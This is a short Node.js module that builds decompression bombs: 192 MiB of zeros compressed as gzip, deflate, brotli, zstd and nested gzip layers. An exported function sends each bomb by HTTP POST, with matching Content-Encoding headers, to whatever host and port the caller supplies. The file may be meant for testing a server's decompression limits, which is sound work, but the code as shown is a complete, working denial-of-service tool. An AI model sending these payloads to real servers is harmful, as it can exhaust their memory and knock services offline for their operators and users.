// Small bodies that become large: each coding alone, one in another, and one that is said to be coded four times.
'use strict'
const http = require('node:http')
const zlib = require('node:zlib')
const large = Buffer.alloc(192 << 20)
const gzip = zlib.gzipSync(large)
const bombs = [
  ['gzip', gzip],
  ['deflate', zlib.deflateSync(large)],
  ['br', zlib.brotliCompressSync(large, { params: { [zlib.constants.BROTLI_PARAM_QUALITY]: 1 } })],
  ['gzip, gzip', zlib.gzipSync(gzip)],
  ['gzip, gzip, gzip, gzip', zlib.gzipSync(zlib.gzipSync(zlib.gzipSync(gzip)))],
]
if (zlib.zstdCompressSync) bombs.push(['zstd', zlib.zstdCompressSync(large)])
const send = (port, host, [coding, body]) => new Promise(resolve => {
  const request = http.request({ host, port, method: 'POST', path: '/bomb', headers: { 'content-encoding': coding, 'content-length': body.length } }, answer => answer.resume().on('close', resolve))
  request.on('error', resolve).end(body)
})
module.exports = async (port, host) => { for (const bomb of bombs) await send(port, host, bomb) }
// Whoever decodes what is sent, as its label says.
module.exports.naive = () => zlib.gunzipSync(bombs[0][1]).length + zlib.gunzipSync(zlib.gunzipSync(bombs[3][1])).length
